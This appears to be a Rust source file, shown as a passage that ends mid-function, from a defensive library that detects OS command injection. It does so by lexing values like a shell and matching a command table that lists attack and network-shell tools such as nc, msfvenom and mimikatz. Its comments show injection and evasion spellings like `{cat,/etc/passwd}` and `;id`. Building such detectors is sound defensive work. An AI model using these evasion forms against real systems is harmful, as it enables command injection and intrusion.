//! OS command injection. A shell lexer (POSIX sh with the Windows cmd and
//! PowerShell spellings that matter) splits the value into words and
//! operators the way the shell would: quotes and backslashes join a word
//! (`c''at`, `w"h"oami`, `c\at` are `cat`, `whoami`), `${IFS}`, `$IFS$9` and
//! positional expansions are blanks, `{cat,/etc/passwd}` is brace expansion,
//! `^` is cmd's escape. A word in command position (start of the value, after
//! `;` `|` `&` `&&` `||` a newline, inside `$( )` or backticks) is looked up
//! in a table of commands; words that are also English ("cat", "more",
//! "sleep") count only with shell-shaped arguments (flags, paths,
//! redirections), so "cat food & dog toys" and "rm 101 key" pass.
//!
//! Never backtracks: one lexing pass, bounded look-ahead per command.

use crate::Sink;
use crate::normalize::CharFlags;
use crate::rules;

const MAX_WORDS: usize = 1024;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Op {
    Separator,
    Pipe,
    Background,
    SubstOpen,
    Backtick,
    Close,
    Redirect,
    BraceOpen,
}

#[derive(Debug)]
enum Piece {
    Word {
        start: usize,
        end: usize,
        text_start: usize,
        text_end: usize,
        evasive: bool,
        glob: bool,
    },
    Op(Op),
}

/// Command table: name → (ambiguous English word?, Windows-only?), built
/// once from the lists below. Names longer than 20 bytes are never looked
/// up (none is a command). Inlined: most names are turned away by
/// [`NAME_SHAPES`] without a call.
#[inline]
fn command(name: &str) -> Option<(bool, bool)> {
    static TABLE: std::sync::OnceLock<CommandTable> = std::sync::OnceLock::new();
    let b = name.as_bytes();
    let (&first, &last) = (b.first()?, b.last()?);
    if NAME_SHAPES.get(b.len())?[usize::from(first & 31)] & (1 << (last & 31)) == 0 {
        return None;
    }
    TABLE.get_or_init(CommandTable::new).get(b)
}

/// Per length (up to 20), per first byte (modulo 32), the last bytes (one
/// bit each, modulo 32) of the names in [`ALL_COMMANDS`]: the table holds
/// only names from that list, so a name whose bit is clear is none (most
/// words are turned away here, before the hashing).
const NAME_SHAPES: [[u32; 32]; 21] = {
    let mut t = [[0u32; 32]; 21];
    let mut i = 0;
    while i < ALL_COMMANDS.len() {
        let b = ALL_COMMANDS[i].as_bytes();
        if !b.is_empty() && b.len() <= 20 {
            t[b.len()][(b[0] & 31) as usize] |= 1 << (b[b.len() - 1] & 31);
        }
        i += 1;
    }
    t
};

/// An open-addressing table of the command names, keyed by the bytes of a
/// name read as at most three machine words ([`name_key`]): a lookup is a
/// few loads, a multiply and a compare of words, with no per-byte hashing
/// and no call to compare strings (it runs for the first word of nearly
/// every value and for every word in command position).
struct CommandTable {
    /// Index + 1 into `entries` per slot, 0 for an empty slot.
    slots: Vec<u16>,
    /// Key, length and value of each name.
    entries: Vec<([u64; 3], usize, (bool, bool))>,
}

/// Slots of [`CommandTable`]: a power of two, about twice the names.
const COMMAND_SLOTS: usize = 2048;

impl CommandTable {
    fn new() -> Self {
        let mut table = CommandTable {
            slots: vec![0; COMMAND_SLOTS],
            entries: Vec::new(),
        };
        for name in ALL_COMMANDS {
            let Some(value) = command_uncached(name) else {
                continue;
            };
            if name.is_empty() || name.len() > 20 || table.get(name.as_bytes()).is_some() {
                continue;
            }
            let key = name_key(name.as_bytes());
            let mut slot = command_slot(&key);
            while table.slots[slot] != 0 {
                slot = (slot + 1) % COMMAND_SLOTS;
            }
            table.entries.push((key, name.len(), value));
            table.slots[slot] = u16::try_from(table.entries.len()).unwrap_or(u16::MAX);
        }
        table
    }

    /// `name` must be 1 to 20 bytes long.
    fn get(&self, name: &[u8]) -> Option<(bool, bool)> {
        let key = name_key(name);
        let mut slot = command_slot(&key);
        loop {
            let index = usize::from(self.slots[slot]);
            let (k, len, value) = self.entries.get(index.checked_sub(1)?)?;
            if *k == key && *len == name.len() {
                return Some(*value);
            }
            slot = (slot + 1) % COMMAND_SLOTS;
        }
    }
}

/// The bytes of a 1 to 20 byte name as three words that differ for any two
/// different names of one length: loads that together cover every byte
/// (overlapping where the length is not a multiple of the load size), and
/// the length where a word is left over. (Names of different lengths may
/// share a key: the table compares lengths too.)
fn name_key(b: &[u8]) -> [u64; 3] {
    let n = b.len();
    let word = |at: usize| u64::from_le_bytes(b[at..at + 8].try_into().unwrap_or([0; 8]));
    let half = |at: usize| {
        u64::from(u32::from_le_bytes(
            b[at..at + 4].try_into().unwrap_or([0; 4]),
        ))
    };
    if n > 16 {
        [word(0), word(8), word(n - 8)]
    } else if n >= 8 {
        [word(0), word(n - 8), n as u64]
    } else if n >= 4 {
        [half(0) | (half(n - 4) << 32), 0, n as u64]
    } else {
        let short = u64::from(b[0]) | (u64::from(b[n / 2]) << 8) | (u64::from(b[n - 1]) << 16);
        [short, 0, n as u64]
    }
}

fn command_slot(key: &[u64; 3]) -> usize {
    let h = (key[0] ^ key[1].rotate_left(23) ^ key[2].rotate_left(47))
        .wrapping_mul(0x9e37_79b9_7f4a_7c15);
    (h >> (64 - COMMAND_SLOTS.trailing_zeros())) as usize
}

const ALL_COMMANDS: &[&str] = &[
    "ansible",
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "ansible-galaxy",
    "ansible-inventory",
    "ansible-playbook",
    "ansible-pull",
    "ansible-vault",
    "ansible-test",
    "chef-client",
    "chef-shell",
    "chef-solo",
    "chef-vault",
    "chef-run",
    "chef-apply",
    "knife",
    "visudo",
    "cscli",
    "rmt",
    "rmt-tar",
    "rmt-dump",
    "lastlog",
    "lastlogin",
    "flock",
    "cpulimit",
    "strace",
    "ltrace",
    "gdb",
    "uconv",
    "ssh-copy-id",
    "ssh-keygen",
    "pip",
    "pip3",
    "pipx",
    "c89",
    "c99",
    "irb",
    "bsdtar",
    "aptitude",
    "apt-get",
    "yum",
    "dnf",
    "htop",
    "regedit",
    "bcdboot",
    "setsid",
    "ionice",
    "stdbuf",
    "unbuffer",
    "doas",
    "pkexec",
    "runuser",
    "nsenter",
    "unshare",
    "capsh",
    "setarch",
    "taskset",
    "busctl",
    "dpkg",
    "rpm",
    "zypper",
    "apk",
    "snap",
    "npm",
    "npx",
    "yarn",
    "gem",
    "cargo",
    "cd",
    "go",
    "php-cgi",
    "jjs",
    "jrunscript",
    "nodejs",
    "tclsh",
    "wish",
    "expect",
    "mawk",
    "nawk",
    "ash",
    "fish",
    "rbash",
    "mksh",
    "posh",
    "sftp",
    "smbclient",
    "rpcclient",
    "mysql",
    "psql",
    "sqlite3",
    "mongo",
    "redis-cli",
    "nping",
    "hping3",
    "masscan",
    "hd",
    "uuencode",
    "uudecode",
    "gpg",
    "7z",
    "7za",
    "rar",
    "unrar",
    "cpio",
    "ar",
    "dmidecode",
    "lspci",
    "lsusb",
    "lsmod",
    "modprobe",
    "insmod",
    "rmmod",
    "sysctl",
    "ulimit",
    "chpasswd",
    "adduser",
    "deluser",
    "userdel",
    "groupadd",
    "gpasswd",
    "newgrp",
    "sg",
    "mkpasswd",
    "write",
    "mesg",
    "finger",
    "pinky",
    "users",
    "groups",
    "logname",
    "tty",
    "stty",
    "setfacl",
    "getfacl",
    "chcon",
    "restorecon",
    "getenforce",
    "setenforce",
    "aa-disable",
    "aa-enforce",
    "aa-complain",
    "aa-status",
    "apparmor_parser",
    "tshark",
    "wireshark",
    "ettercap",
    "arpspoof",
    "dsniff",
    "john",
    "hashcat",
    "hydra",
    "medusa",
    "sqlmap",
    "nikto",
    "msfconsole",
    "msfvenom",
    "powercat",
    "mimikatz",
    "psexec",
    "wmiexec",
    "certreq",
    "esentutl",
    "extrac32",
    "hh",
    "ieexec",
    "makecab",
    "mavinject",
    "msbuild",
    "odbcconf",
    "pcalua",
    "pcwrap",
    "presentationhost",
    "regasm",
    "regini",
    "register-cimprovider",
    "regsvcs",
    "replace",
    "rpcping",
    "runonce",
    "runscripthelper",
    "scriptrunner",
    "syncappvpublishingserver",
    "te",
    "tttracer",
    "vbc",
    "verclsid",
    "wab",
    "winrm",
    "winrs",
    "wsl",
    "wuauclt",
    "xwizard",
    "csc",
    "cmstp",
    "control",
    "diskshadow",
    "dnscmd",
    "eventvwr",
    "explorer",
    "gpscript",
    "infdefaultinstall",
    "installutil",
    "jsc",
    "ntdsutil",
    "pktmon",
    "rasautou",
    "wevtutil",
    "takeown",
    "subst",
    "sdbinst",
    "column",
    "comm",
    "bridge",
    "ex",
    "perf",
    "at",
    "chef",
    "rc",
    "apt",
    "cc",
    "c++",
    "g++",
    "look",
    "pr",
    "units",
    "watch",
    "script",
    "screen",
    "tmux",
    "jq",
    "yq",
    "bc",
    "dc",
    "csplit",
    "shuf",
    "sum",
    "cksum",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "zcat",
    "bzcat",
    "xzcat",
    "lzma",
    "xz",
    "view",
    "red",
    "ed",
    "pg",
    "ul",
    "col",
    "iconv",
    "dialog",
    "whiptail",
    "logger",
    "lp",
    "lpr",
    "mail",
    "mailx",
    "sendmail",
    "mutt",
    "nmcli",
    "ss",
    "ssh-agent",
    "tic",
    "toe",
    "tput",
    "whoami",
    "uname",
    "ifconfig",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "lua",
    "telnet",
    "ssh",
    "scp",
    "rsync",
    "tftp",
    "chmod",
    "chown",
    "chgrp",
    "passwd",
    "useradd",
    "usermod",
    "sudo",
    "crontab",
    "nohup",
    "nslookup",
    "traceroute",
    "netstat",
    "lsof",
    "pwd",
    "ls",
    "printf",
    "killall",
    "pkill",
    "mkdir",
    "rmdir",
    "grep",
    "egrep",
    "fgrep",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "base64",
    "xxd",
    "hexdump",
    "uniq",
    "wc",
    "gzip",
    "gunzip",
    "bzip2",
    "tar",
    "unzip",
    "whereis",
    "uptime",
    "hostname",
    "iptables",
    "nmap",
    "tcpdump",
    "openssl",
    "gcc",
    "systemctl",
    "mkfifo",
    "socat",
    "chattr",
    "lsattr",
    "getent",
    "ldd",
    "strings",
    "objdump",
    "readelf",
    "dig",
    "nproc",
    "lscpu",
    "lsblk",
    "dmesg",
    "journalctl",
    "ifup",
    "ip",
    "arp",
    "route",
    "mknod",
    "timeout",
    "wall",
    "shred",
    "install",
    "vi",
    "vim",
    "nano",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "wmic",
    "systeminfo",
    "tasklist",
    "taskkill",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "schtasks",
    "msiexec",
    "nltest",
    "dsquery",
    "vssadmin",
    "bcdedit",
    "icacls",
    "cacls",
    "ipconfig",
    "tracert",
    "net1",
    "query",
    "qwinsta",
    "findstr",
    "cmdkey",
    "iwr",
    "iwmi",
    "gwmi",
    "irm",
    "iex",
    "icm",
    "saps",
    "invoke-webrequest",
    "invoke-expression",
    "start-process",
    "netsh",
    "sysinfo",
    "whoami.exe",
    "forfiles",
    "xcopy",
    "robocopy",
    "bash.exe",
    "cmd.exe",
    "cat",
    "id",
    "echo",
    "env",
    "sleep",
    "ping",
    "kill",
    "rm",
    "cp",
    "mv",
    "touch",
    "ln",
    "find",
    "head",
    "tail",
    "more",
    "less",
    "sort",
    "tee",
    "tr",
    "cut",
    "dd",
    "file",
    "stat",
    "which",
    "who",
    "w",
    "last",
    "date",
    "history",
    "set",
    "alias",
    "eval",
    "exec",
    "source",
    "shutdown",
    "reboot",
    "halt",
    "service",
    "java",
    "make",
    "git",
    "ps",
    "top",
    "du",
    "df",
    "su",
    "mount",
    "nice",
    "time",
    "wait",
    "test",
    "export",
    "unset",
    "read",
    "chroot",
    "locate",
    "od",
    "rev",
    "nl",
    "fold",
    "split",
    "paste",
    "join",
    "expand",
    "tac",
    "base32",
    "host",
    "whois",
    "ftp",
    "node",
    "zip",
    "yes",
    "xterm",
    "type",
    "dir",
    "copy",
    "del",
    "net",
    "reg",
    "sc",
    "start",
    "ver",
    "vol",
    "attrib",
    "move",
    "ren",
    "call",
    "print",
];

fn command_uncached(name: &str) -> Option<(bool, bool)> {
    let unix_clear = [
        "ansible",
        "ansible-config",
        "ansible-console",
        "ansible-doc",
        "ansible-galaxy",
        "ansible-inventory",
        "ansible-playbook",
        "ansible-pull",
        "ansible-vault",
        "ansible-test",
        "chef-client",
        "chef-shell",
        "chef-solo",
        "chef-vault",
        "chef-run",
        "chef-apply",
        "knife",
        "visudo",
        "cscli",
        "rmt",
        "rmt-tar",
        "rmt-dump",
        "lastlog",
        "lastlogin",
        "flock",
        "cpulimit",
        "strace",
        "ltrace",
        "gdb",
        "uconv",
        "ssh-copy-id",
        "ssh-keygen",
        "pip",
        "pip3",
        "pipx",
        "c89",
        "c99",
        "irb",
        "bsdtar",
        "aptitude",
        "apt-get",
        "dnf",
        "htop",
        "regedit",
        "bcdboot",
        "setsid",
        "ionice",
        "stdbuf",
        "unbuffer",
        "doas",
        "pkexec",
        "runuser",
        "nsenter",
        "unshare",
        "capsh",
        "setarch",
        "taskset",
        "busctl",
        "dpkg",
        "rpm",
        "zypper",
        "npm",
        "npx",
        "php-cgi",
        "jjs",
        "jrunscript",
        "nodejs",
        "tclsh",
        "mawk",
        "nawk",
        "rbash",
        "mksh",
        "sftp",
        "smbclient",
        "rpcclient",
        "mysql",
        "psql",
        "sqlite3",
        "mongo",
        "redis-cli",
        "nping",
        "hping3",
        "masscan",
        "uuencode",
        "uudecode",
        "gpg",
        "7z",
        "7za",
        "unrar",
        "cpio",
        "dmidecode",
        "lspci",
        "lsusb",
        "lsmod",
        "modprobe",
        "insmod",
        "rmmod",
        "sysctl",
        "ulimit",
        "chpasswd",
        "adduser",
        "deluser",
        "userdel",
        "groupadd",
        "gpasswd",
        "newgrp",
        "mkpasswd",
        "stty",
        "setfacl",
        "getfacl",
        "chcon",
        "restorecon",
        "getenforce",
        "setenforce",
        "aa-disable",
        "aa-enforce",
        "aa-complain",
        "aa-status",
        "apparmor_parser",
        "tshark",
        "wireshark",
        "ettercap",
        "arpspoof",
        "dsniff",
        "hashcat",
        "sqlmap",
        "nikto",
        "msfconsole",
        "msfvenom",
        "powercat",
        "mimikatz",
        "psexec",
        "wmiexec",
        "certreq",
        "esentutl",
        "extrac32",
        "makecab",
        "mavinject",
        "msbuild",
        "odbcconf",
        "pcalua",
        "pcwrap",
        "presentationhost",
        "regasm",
        "regini",
        "register-cimprovider",
        "regsvcs",
        "rpcping",
        "runscripthelper",
        "scriptrunner",
        "syncappvpublishingserver",
        "tttracer",
        "vbc",
        "verclsid",
        "winrm",
        "winrs",
        "wsl",
        "wuauclt",
        "xwizard",
        "csc",
        "cmstp",
        "diskshadow",
        "dnscmd",
        "eventvwr",
        "gpscript",
        "infdefaultinstall",
        "installutil",
        "jsc",
        "ntdsutil",
        "pktmon",
        "rasautou",
        "wevtutil",
        "takeown",
        "subst",
        "sdbinst",
        "whoami",
        "uname",
        "ifconfig",
        "wget",
        "curl",
        "nc",
        "ncat",
        "netcat",
        "bash",
        "sh",
        "zsh",
        "ksh",
        "csh",
        "tcsh",
        "dash",
        "busybox",
        "perl",
        "python",
        "python2",
        "python3",
        "php",
        "ruby",
        "lua",
        "telnet",
        "ssh",
        "scp",
        "rsync",
        "tftp",
        "chmod",
        "chown",
        "chgrp",
        "passwd",
        "useradd",
        "usermod",
        "sudo",
        "crontab",
        "nohup",
        "nslookup",
        "traceroute",
        "netstat",
        "lsof",
        "pwd",
        "ls",
        "printf",
        "killall",
        "pkill",
        "mkdir",
        "rmdir",
        "grep",
        "egrep",
        "fgrep",
        "awk",
        "gawk",
        "sed",
        "xargs",
        "base64",
        "xxd",
        "hexdump",
        "uniq",
        "wc",
        "gzip",
        "gunzip",
        "bzip2",
        "tar",
        "unzip",
        "whereis",
        "uptime",
        "hostname",
        "iptables",
        "nmap",
        "tcpdump",
        "openssl",
        "gcc",
        "systemctl",
        "mkfifo",
        "socat",
        "chattr",
        "lsattr",
        "getent",
        "ldd",
        "strings",
        "objdump",
        "readelf",
        "dig",
        "nproc",
        "lscpu",
        "lsblk",
        "dmesg",
        "journalctl",
        "useradd",
        "ifup",
        "ip",
        "arp",
        "route",
        "mknod",
        "timeout",
        "wall",
        "shred",
        "install",
        "vi",
        "vim",
        "nano",
        "powershell",
        "pwsh",
        "cmd",
        "certutil",
        "bitsadmin",
        "wmic",
        "systeminfo",
        "tasklist",
        "taskkill",
        "mshta",
        "rundll32",
        "regsvr32",
        "cscript",
        "wscript",
        "schtasks",
        "msiexec",
        "nltest",
        "dsquery",
        "vssadmin",
        "bcdedit",
        "icacls",
        "cacls",
        "ipconfig",
        "tracert",
        "net1",
        "query",
        "qwinsta",
        "findstr",
        "cmdkey",
        "iwr",
        "iwmi",
        "gwmi",
        "irm",
        "iex",
        "icm",
        "saps",
        "invoke-webrequest",
        "invoke-expression",
        "start-process",
        "netsh",
        "sysinfo",
        "whoami.exe",
        "forfiles",
        "xcopy",
        "robocopy",
        "bash.exe",
        "cmd.exe",
    ];
    let unix_ambiguous = [
        // A shell builtin, and a compact disc.
        "cd",
        "go",
        "cargo",
        "write",
        "users",
        "groups",
        "replace",
        "control",
        "explorer",
        "te",
        "hh",
        "wish",
        "expect",
        "finger",
        "john",
        "hydra",
        "medusa",
        "snap",
        "gem",
        "yarn",
        "ash",
        "fish",
        "posh",
        "tty",
        "apk",
        "yum",
        "rar",
        "ar",
        "hd",
        "pinky",
        "wab",
        "ieexec",
        "sg",
        "mesg",
        "logname",
        "runonce",
        "column",
        "comm",
        "bridge",
        "ex",
        "perf",
        "at",
        "chef",
        "rc",
        "apt",
        "cc",
        "c++",
        "g++",
        "look",
        "pr",
        "units",
        "watch",
        "script",
        "screen",
        "tmux",
        "jq",
        "yq",
        "bc",
        "dc",
        "csplit",
        "shuf",
        "sum",
        "cksum",
        "md5sum",
        "sha1sum",
        "sha256sum",
        "zcat",
        "bzcat",
        "xzcat",
        "lzma",
        "xz",
        "view",
        "red",
        "ed",
        "pg",
        "ul",
        "col",
        "iconv",
        "dialog",
        "whiptail",
        "logger",
        "lp",
        "lpr",
        "mail",
        "mailx",
        "sendmail",
        "mutt",
        "nmcli",
        "ss",
        "ssh-agent",
        "tic",
        "toe",
        "tput",
        "cat",
        "id",
        "echo",
        "env",
        "sleep",
        "ping",
        "kill",
        "rm",
        "cp",
        "mv",
        "touch",
        "ln",
        "find",
        "head",
        "tail",
        "more",
        "less",
        "sort",
        "tee",
        "tr",
        "cut",
        "dd",
        "file",
        "stat",
        "which",
        "who",
        "w",
        "last",
        "date",
        "history",
        "set",
        "alias",
        "eval",
        "exec",
        "source",
        "shutdown",
        "reboot",
        "halt",
        "service",
        "java",
        "make",
        "git",
        "ps",
        "top",
        "du",
        "df",
        "su",
        "mount",
        "nice",
        "time",
        "wait",
        "test",
        "export",
        "unset",
        "read",
        "chroot",
        "locate",
        "od",
        "rev",
        "nl",
        "fold",
        "split",
        "paste",
        "join",
        "expand",
        "tac",
        "base32",
        "host",
        "whois",
        "ftp",
        "node",
        "zip",
        "yes",
        "xterm",
    ];
    let windows_ambiguous = [
        "type", "dir", "copy", "del", "net", "reg", "sc", "start", "ver", "vol", "attrib", "move",
        "ren", "call", "print",
    ];
    if unix_clear.contains(&name) {
        let windows = matches!(
            name,
            "cmd"
                | "certutil"
                | "bitsadmin"
                | "wmic"
                | "systeminfo"
                | "tasklist"
                | "taskkill"
                | "mshta"
                | "rundll32"
                | "regsvr32"
                | "cscript"
                | "wscript"
                | "schtasks"
                | "msiexec"
                | "nltest"
                | "dsquery"
                | "vssadmin"
                | "bcdedit"
                | "bcdboot"
                | "icacls"
                | "cacls"
                | "ipconfig"
                | "tracert"
                | "net1"
                | "qwinsta"
                | "findstr"
                | "cmdkey"
                | "iwr"
                | "iwmi"
                | "gwmi"
                | "irm"
                | "iex"
                | "icm"
                | "saps"
                | "invoke-webrequest"
                | "invoke-expression"
                | "start-process"
                | "netsh"
                | "forfiles"
                | "xcopy"
                | "robocopy"
                | "cmd.exe"
                | "whoami.exe"
        );
        return Some((false, windows));
    }
    if unix_ambiguous.contains(&name) {
        return Some((true, false));
    }
    if windows_ambiguous.contains(&name) {
        return Some((true, true));
    }
    None
}

/// Whether `name` is a known command that is not also an English word.
pub(crate) fn is_command_name(name: &str) -> bool {
    command(name).is_some_and(|(ambiguous, _)| !ambiguous) || is_probe(name)
}

/// Values up to this long are read a byte at a time by
/// [`starts_with_command`].
const FIRST_WORD_LOOP_MAX: usize = 32;

/// Whether the first word of `lower` is a known command (a cheap test for
/// plain-text values).
pub(crate) fn starts_with_command(lower: &str) -> bool {
    // (Most values start with a printable ASCII byte: nothing to trim.)
    let s = if lower
        .as_bytes()
        .first()
        .is_some_and(|c| (0x21..0x80).contains(c))
    {
        lower
    } else {
        lower.trim_start()
    };
    // One pass to the first blank, noting where the last path component
    // starts (what `program_name` would cut): most first words are short,
    // where a vectorised search's set-up costs more than the loop.
    let bytes = s.as_bytes();
    let mut end = bytes.len();
    let mut component = 0;
    if bytes.len() > FIRST_WORD_LOOP_MAX {
        // A long value (a URL, an id) often is one long word: the same
        // blank and last path separator, found with vectorised searches.
        end = memchr::memchr2(b' ', b'\t', bytes).unwrap_or(end);
        component = memchr::memrchr2(b'/', b'\\', &bytes[..end]).map_or(0, |p| p + 1);
    } else {
        for (i, &b) in bytes.iter().enumerate() {
            match b {
                b' ' | b'\t' => {
                    end = i;
                    break;
                }
                b'/' | b'\\' => component = i + 1,
                _ => {}
            }
        }
    }
    if bytes[component..end].ends_with(b".exe") {
        end -= 4;
    }
    // Cut at ASCII bytes only, so the slice stays a `str` (no re-validation).
    (1..=20).contains(&(end - component)) && command(&s[component..end]).is_some()
}

/// Whether `rest` (what follows a word) opens a parameter list, `;name=`:
/// `gzip;q=1.0` in a header is a coding with a weight, not a command line.
fn parameter_list(rest: &str) -> bool {
    let Some(rest) = rest.trim_start_matches([' ', '\t']).strip_prefix(';') else {
        return false;
    };
    let rest = rest.trim_start_matches([' ', '\t']);
    let name = rest
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
        .count();
    name > 0 && rest.as_bytes().get(name) == Some(&b'=')
}

/// The longest first word [`starts_with_command_in`] needs to read: a
/// command name of 20 bytes and `.exe`.
const FIRST_WORD_MAX: usize = 20 + ".exe".len();

/// [`starts_with_command`] of a value (`lower`, the view whose text has
/// `flags`). Most values have no path separator and no blank but a space or
/// a tab (`active`, `london`, `union station pickup`); their first word is
/// found without the general search:
///
/// - `lower` is ASCII (the normalizer replaces every other byte), so its
///   only whitespace is ASCII, and without a [`CharFlags::NEWLINE`] or
///   [`CharFlags::CONTROL`] byte that is a space or a tab: `trim_start` is
///   trimming those.
/// - Without a [`CharFlags::SLASH`] byte (`/` and `\\`) the program name
///   is the whole first word.
/// - The first word ends at the first space or tab; when none is among the
///   first [`FIRST_WORD_MAX`] + 1 bytes the word is longer than any name
///   with `.exe`, and so is what is looked up instead (the whole value, at
///   least as long): both are rejected.
pub(crate) fn starts_with_command_in(lower: &str, flags: CharFlags) -> bool {
    if flags.any(CharFlags::SLASH | CharFlags::NEWLINE | CharFlags::CONTROL) {
        return starts_with_command(lower);
    }
    // (Without a [`CharFlags::SPACE`] byte there is no blank to trim.)
    let word = if flags.contains(CharFlags::SPACE) {
        let s = lower.trim_start_matches([' ', '\t']);
        let b = s.as_bytes();
        let end = b[..b.len().min(FIRST_WORD_MAX + 1)]
            .iter()
            .position(|c| matches!(c, b' ' | b'\t'))
            .unwrap_or(b.len());
        // (A blank is ASCII: the slice stays a `str`.)
        &s[..end]
    } else {
        lower
    };
    // (`command` turns away names of more than 20 bytes.)
    command(word.strip_suffix(".exe").unwrap_or(word)).is_some()
}

/// The program a command word names: its last path component, without
/// `.exe` (`/usr/bin/curl` → `curl`, `c:\\windows\\cmd.exe` → `cmd`).
fn program_name(word: &str) -> &str {
    // Cut at ASCII bytes only, so the slice stays a `str`.
    let start = word
        .as_bytes()
        .iter()
        .rposition(|b| matches!(b, b'/' | b'\\'))
        .map_or(0, |p| p + 1);
    let base = &word[start..];
    base.strip_suffix(".exe").unwrap_or(base)
}

/// Commands that probe the host with no arguments at all (`;id`, `|ls`).
fn is_probe(name: &str) -> bool {
    matches!(
        name,
        "id" | "ls"
            | "pwd"
            | "whoami"
            | "uname"
            | "ifconfig"
            | "ipconfig"
            | "hostname"
            | "env"
            | "ps"
            | "netstat"
            | "systeminfo"
            | "ver"
            | "set"
            | "dir"
            | "w"
            | "who"
            | "uptime"
            | "tasklist"
            | "sleep"
            | "ping"
            | "printenv"
            | "getuid"
    )
}

struct Lexed {
    pieces: Vec<Piece>,
    text: String,
}

/// Lexes `lower` into words (their shell value is in `text`) and operators.
fn lex(lower: &str, out: &mut Lexed) {
    out.pieces.clear();
    out.text.clear();
    let s = lower.as_bytes();
    let mut i = 0;
    while i < s.len() && out.pieces.len() < MAX_WORDS {
        let b = s[i];
        match b {
            b' ' | b'\t' | b'\r' | 0x0b | 0x0c => i += 1,
            b'\n' | b';' => {
                out.pieces.push(Piece::Op(Op::Separator));
                i += 1;
            }
            // A literal `\n` that a later unescaping turns into a newline.
            b'\\'
                if s.get(i + 1) == Some(&b'n')
                    && !s.get(i + 2).is_some_and(|c| {
                        c.is_ascii_lowercase()
                            && !matches!(
                                c,
                                b'c' | b'i' | b'l' | b'p' | b'u' | b'w' | b'n' | b'e' | b'b' | b's'
                            )
                    }) =>
            {
                out.pieces.push(Piece::Op(Op::Separator));
                i += 2;
            }
            b'|' => {
                let n = if s.get(i + 1) == Some(&b'|') { 2 } else { 1 };
                out.pieces
                    .push(Piece::Op(if n == 2 { Op::Separator } else { Op::Pipe }));
                i += n;
            }
            b'&' => {
                if s.get(i + 1) == Some(&b'&') {
                    out.pieces.push(Piece::Op(Op::Separator));
                    i += 2;
                } else if s.get(i + 1) == Some(&b'>') {
                    out.pieces.push(Piece::Op(Op::Redirect));
                    i += 2;
                } else {
                    out.pieces.push(Piece::Op(Op::Background));
                    i += 1;
                }
            }
            b'`' => {
                out.pieces.push(Piece::Op(Op::Backtick));
                i += 1;
            }
            b'$' if s.get(i + 1) == Some(&b'(') => {
                out.pieces.push(Piece::Op(Op::SubstOpen));
                i += 2;
            }
            // A subshell only opens where a command may start: `a; (id)`,
            // `(id)`, not `hello world (test)` (a syntax error to a shell).
            b'(' if s[..i]
                .iter()
                .rev()
                .find(|b| !matches!(b, b' ' | b'\t'))
                .is_none_or(|b| matches!(b, b';' | b'|' | b'&' | b'(' | b'\n' | b'{'))
                && (i == 0 || matches!(s[i - 1], b' ' | b'\t' | b';' | b'|' | b'&')) =>
            {
                out.pieces.push(Piece::Op(Op::SubstOpen));
                i += 1;
            }
            b')' => {
                out.pieces.push(Piece::Op(Op::Close));
                i += 1;
            }
            b'<' | b'>' if s.get(i + 1) == Some(&b'(') => {
                out.pieces.push(Piece::Op(Op::SubstOpen));
                i += 2;
            }
            b'<' | b'>' => {
                let mut n = 1;
                while matches!(s.get(i + n), Some(b'>' | b'&' | b'(')) && n < 3 {
                    n += 1;
                }
                out.pieces.push(Piece::Op(Op::Redirect));
                i += n;
            }
            b'{' if s.get(i + 1).is_none_or(|c| *c != b'}')
                && memchr::memchr(b',', &s[i..(i + 256).min(s.len())]).is_some()
                && (i == 0 || !matches!(s[i - 1], b'$')) =>
            {
                out.pieces.push(Piece::Op(Op::BraceOpen));
                i += 1;
            }
            _ => {
                i = lex_word(s, i, out);
            }
        }
    }
}

/// One shell word starting at `i`; returns where it ends.
fn lex_word(s: &[u8], mut i: usize, out: &mut Lexed) -> usize {
    let start = i;
    let text_start = out.text.len();
    let mut evasive = false;
    let mut glob = false;
    let mut letters_before_quote = false;
    while i < s.len() {
        let b = s[i];
        match b {
            // An empty substitution inside a word (`pi``ng`, `ping`` x`)
            // expands to nothing: the word goes on.
            b'`' if i > start
                && s.get(i + 1) == Some(&b'`')
                && out
                    .pieces
                    .iter()
                    .filter(|p| matches!(p, Piece::Op(Op::Backtick)))
                    .count()
                    % 2
                    == 0 =>
            {
                evasive = true;
                i += 2;
            }
            // An empty process substitution glued inside a word
            // (`pi<()ng`, `pi>()ng`): shell syntax that only hides a name.
            b'<' | b'>'
                if i > start
                    && s[i - 1].is_ascii_alphanumeric()
                    && s.get(i + 1..i + 3) == Some(b"()")
                    && s.get(i + 3).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                evasive = true;
                i += 3;
            }
            b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')'
            | 0x0b | 0x0c => break,
            b'(' if i > start => break,
            b',' | b'}'
                if out
                    .pieces
                    .iter()
                    .rev()
                    .any(|p| matches!(p, Piece::Op(Op::BraceOpen))) =>
            {
                i += 1;
                break;
            }
            b'\'' | b'"' => {
                let close = memchr::memchr(b, &s[i + 1..]).map(|p| i + 1 + p);
                let Some(close) = close else {
                    i += 1;
                    continue;
                };
                let inner = &s[i + 1..close];
                if letters_before_quote || s.get(close + 1).is_some_and(u8::is_ascii_alphanumeric) {
                    evasive = true;
                }
                out.text.push_str(std::str::from_utf8(inner).unwrap_or(""));
                i = close + 1;
            }
            b'\\' if s.get(start + 1) == Some(&b':') || s[start] == b'\\' || s[start] == b'%' => {
                // A Windows path (`c:\windows`, `\\host\share`): backslashes are separators.
                out.text.push('\\');
                i += 1;
            }
            // A literal `\n` (a later unescaping makes it a newline) ends the word.
            b'\\'
                if s.get(i + 1) == Some(&b'n')
                    && !s.get(i + 2).is_some_and(u8::is_ascii_alphanumeric) =>
            {
                break;
            }
            b'\\' => {
                if let Some(&n) = s.get(i + 1) {
                    if n.is_ascii_alphanumeric() && i > start {
                        evasive = true;
                    }
                    if n.is_ascii_alphanumeric() || !(n as char).is_whitespace() {
